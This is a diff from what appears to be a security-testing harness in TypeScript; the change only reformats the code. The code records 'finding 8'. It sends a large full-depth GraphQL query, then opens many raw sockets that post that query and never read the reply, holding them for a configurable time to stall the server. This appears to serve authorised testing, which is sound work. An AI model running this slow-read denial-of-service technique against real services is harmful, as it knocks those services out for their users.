@@ -48,14 +48,21 @@ function drain(socket: net.Socket, ms: number): Promise<{ bytes: number; closed:
 async function run(ctx: FindingContext): Promise<void> {
   const { target } = ctx;
   const token = target.tokens[0];
-  await record(ctx, { finding: '8', sent: `one reader: POST /graphql products(first: ${FIRST}) full depth` }, async () => {
-    const x = await postGraphQL(target.base, token, { query: BIG });
-    return { ...columns(x), notes: 'the answer the stalled sockets ask for' };
-  });
+  await record(
+    ctx,
+    { finding: '8', sent: `one reader: POST /graphql products(first: ${FIRST}) full depth` },
+    async () => {
+      const x = await postGraphQL(target.base, token, { query: BIG });
+      return { ...columns(x), notes: 'the answer the stalled sockets ask for' };
+    },
+  );
   const holdSeconds = Number(process.env.ABUSE_HOLD_SECONDS ?? 12);
   await record(
     ctx,
-    { finding: '8', sent: `${SOCKETS} raw sockets POST that query and never read, held ${holdSeconds} s, probe running` },
+    {
+      finding: '8',
+      sent: `${SOCKETS} raw sockets POST that query and never read, held ${holdSeconds} s, probe running`,
+    },
     async () => {
       const sockets = Array.from({ length: SOCKETS }, () => stalledGraphQL(target.base, token));
       await sleep(3_000);
